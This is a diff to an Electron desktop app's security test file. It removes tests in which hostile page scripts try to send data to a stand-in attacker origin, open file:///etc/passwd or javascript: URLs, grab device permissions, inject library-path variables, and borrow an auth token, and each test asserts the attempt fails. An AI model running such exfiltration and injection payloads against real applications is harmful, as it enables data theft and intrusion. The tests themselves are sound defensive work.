@@ -1,4 +1,4 @@
-"""SECURITY 29 to 37 (34 is in test_security_package.py), each tried from a hostile page."""
+"""SECURITY 29 to 37 where one has to look into main; the others are tried on the packaged program."""
 
 from __future__ import annotations
 
@@ -6,15 +6,12 @@ import json
 import os
 import re
 import signal
-from collections.abc import Iterator
 from pathlib import Path
 
-import psutil
 import pytest
 
 from tests.desktop.conftest import Launch
-from tests.desktop.hostile import Elsewhere, elsewhere, hostile_sidecar, seen
-from tests.desktop.inspector import Refused
+from tests.desktop.hostile import Elsewhere, hostile_sidecar
 from tests.desktop.program import ROOT, Desktop
 from tests.helpers.waiting import eventually
 
@@ -25,13 +22,6 @@ HARDENED = {
     "nodeIntegration": False,
     "webviewTag": False,
 }
-
-
-@pytest.fixture
-def evil() -> Iterator[Elsewhere]:
-    """Where a hostile page would like to send things."""
-    with elsewhere() as server:
-        yield server
 
 
 @pytest.fixture
@@ -75,39 +65,6 @@ def test_29_a_window_without_its_guards_is_ended(hostile: Desktop, weak: dict[st
     assert next(iter(weak)) in hostile.log
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "location.href = '@/'",
-        "location.replace('@/')",
-        "location.href = '/away'",
-        "location.href = 'file:///etc/passwd'",
-        "location.href = 'data:text/html,x'",
-        "location.href = 'app://steelyard/lost.html'",
-        "document.body.innerHTML = `<a href='@/'>x</a>`; document.querySelector('a').click()",
-        "document.body.innerHTML = `<form method=post action='@/'></form>`; document.forms[0].submit()",
-        "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=@/'>`",
-        "document.body.innerHTML = `<iframe src='@/'></iframe>`",
-        "document.body.innerHTML = `<iframe src='/away'></iframe>`",
-        "document.body.innerHTML = `<webview src='@/'></webview><object data='@/'></object>`",
-        "document.body.innerHTML = `<img src='@/'><script src='@/'></script><link rel=prefetch href='@/'>`",
-        "fetch('@/').catch(() => 0)",
-        "fetch('/away').catch(() => 0)",
-        "navigator.sendBeacon('@/', 'x')",
-        "new WebSocket('@/'.replace('http', 'ws'))",
-        "window.open('@/')",
-        "new EventSource('@/')",
-    ],
-)
-def test_30_nothing_leaves_our_origin(hostile: Desktop, evil: Elsewhere, attack: str) -> None:
-    before = hostile.page.url
-    hostile.page.evaluate(f"void eval({json.dumps(attack.replace('@', evil.origin))})")
-    pause(hostile)
-    assert evil.asked == []
-    assert hostile.page.url == before
-    assert hostile.run("return electron.webContents.getAllWebContents().length") == 1
-
-
 def test_30_a_page_from_disk_cannot_go_to_the_sidecar_either(launch: Launch) -> None:
     desktop = launch(timings={"pingEvery": 200})
     desktop.panel()
@@ -119,55 +76,6 @@ def test_30_a_page_from_disk_cannot_go_to_the_sidecar_either(launch: Launch) -> 
     desktop.logged("navigation refused")
     os.kill(record["pid"], signal.SIGCONT)
     desktop.panel()
-
-
-def test_31_only_what_a_browser_opens_is_opened(hostile: Desktop) -> None:
-    for url in (
-        "https://example.test/a",
-        "mailto:a@example.test",
-        "http://example.test/",
-        "file:///etc/passwd",
-        "smb://host/share",
-        "javascript:alert(1)",
-        "ms-settings:x",
-        "vbscript:x",
-        "HTTPS://EXAMPLE.test/b",
-    ):
-        hostile.page.evaluate(f"void window.open({json.dumps(url)})")
-    pause(hostile)
-    opened = hostile.run("return opened")
-    assert opened == ["https://example.test/a", "mailto:a@example.test", "https://example.test/b"]
-    assert hostile.run("return electron.BrowserWindow.getAllWindows().length") == 1
-
-
-def test_32_permissions_are_denied(hostile: Desktop) -> None:
-    states = hostile.page.evaluate(
-        """
-        Promise.all(["geolocation", "notifications", "camera", "microphone", "midi", "clipboard-read",
-            "persistent-storage", "idle-detection"].map((name) => navigator.permissions.query({name})
-            .then((status) => status.state, () => "denied")))
-        """
-    )
-    assert set(states) == {"denied"}
-    refused = hostile.page.evaluate(
-        """
-        Promise.all([
-            () => navigator.mediaDevices.getUserMedia({audio: true}),
-            () => navigator.mediaDevices.getDisplayMedia(),
-            () => navigator.clipboard.readText(),
-            () => new Promise((good, bad) => navigator.geolocation.getCurrentPosition(good, bad)),
-            () => document.documentElement.requestPointerLock(),
-            () => navigator.usb.requestDevice({filters: []}),
-            () => navigator.serial.requestPort(),
-            () => navigator.hid.requestDevice({filters: []}).then((found) => { if (!found.length) throw 0; }),
-        ].map((ask) => Promise.race([
-            new Promise((done) => setTimeout(done, 2000, "nothing")),
-            Promise.resolve().then(ask).then(() => "granted", () => "refused"),
-        ])))
-        """
-    )
-    assert "granted" not in refused, refused
-    assert hostile.page.evaluate("Notification.requestPermission()") == "denied"
 
 
 IPC = """
@@ -221,27 +129,6 @@ def test_35_certificate_errors_stay_errors(hostile: Desktop) -> None:
         assert word not in sources
 
 
-def test_36_the_sidecar_is_one_program_with_the_variables_that_it_may_have(launch: Launch) -> None:
-    forbidden = {
-        "PYTHONPATH": "/nowhere",
-        "PYTHONSTARTUP": "/nowhere",
-        "LD_LIBRARY_PATH": "/nowhere",
-        "DYLD_INSERT_LIBRARIES": "/nowhere",
-        "SOME_SECRET": "sesame",
-    }
-    desktop = launch(WORKER_MAX_COUNT="3", **forbidden)
-    desktop.panel()
-    sidecar = psutil.Process(desktop.record["pid"])
-    environ = sidecar.environ()
-    assert environ["WORKER_MAX_COUNT"] == "3"
-    assert not [name for name in environ if name.startswith(("PYTHON", "LD_", "DYLD_", "NODE_", "ELECTRON_"))]
-    assert "SOME_SECRET" not in environ
-    assert {"127.0.0.1", "localhost"} <= set(environ["NO_PROXY"].split(","))
-    command = sidecar.cmdline()
-    assert os.path.isabs(command[0]) and "sh" not in {Path(word).name for word in command}
-    assert sidecar.ppid() == desktop.process.pid
-
-
 @pytest.mark.parametrize(
     "url",
     [
@@ -272,33 +159,3 @@ def test_37_a_page_cannot_ask_for_the_end(hostile: Desktop) -> None:
     assert hostile.process.poll() is None and "quit" not in hostile.log
     names = hostile.run("return [...electron.ipcMain._invokeHandlers.keys()]")
     assert not [name for name in names if re.search("quit|exit|shutdown|stop|close", name)]
-
-
-def test_the_token_goes_to_our_origin_and_nowhere_else(
-    hostile: Desktop, evil: Elsewhere, tmp_path: Path
-) -> None:
-    """No page, URL, cookie or script ever holds it; a frame of another origin cannot borrow it."""
-    token = json.loads(hostile.run("return JSON.stringify(process.env.TOKEN ?? null)"))
-    assert token is None
-    page = hostile.page
-    page.evaluate("fetch('/mine').then(() => 0)")
-    page.evaluate("fetch('/forged', {headers: {Authorization: 'Bearer forged'}}).then(() => 0)")
-    page.evaluate("void new WebSocket(`ws://${location.host}/ws/mine`)")
-    page.evaluate(
-        """
-        document.body.innerHTML = `<iframe sandbox="allow-scripts" srcdoc="<script>
-            fetch('http://${location.host}/borrowed', {mode: 'no-cors'})</` + `script>"></iframe>`
-        """
-    )
-    pause(hostile)
-    asked = dict(seen(tmp_path))
-    bearer = asked["/mine"]
-    assert re.fullmatch(r"Bearer [0-9a-f]{64}", bearer)
-    assert asked["/forged"] == asked["/ws/mine"] == asked["/"] == bearer
-    assert asked.get("/borrowed", "") == ""
-    secret = bearer.removeprefix("Bearer ")
-    assert secret not in hostile.log + hostile.output
-    assert secret not in json.dumps(hostile.run("return await window.webContents.session.cookies.get({})"))
-    assert evil.asked == []
-    with pytest.raises(Refused):
-        page.evaluate("steelyard.state()")
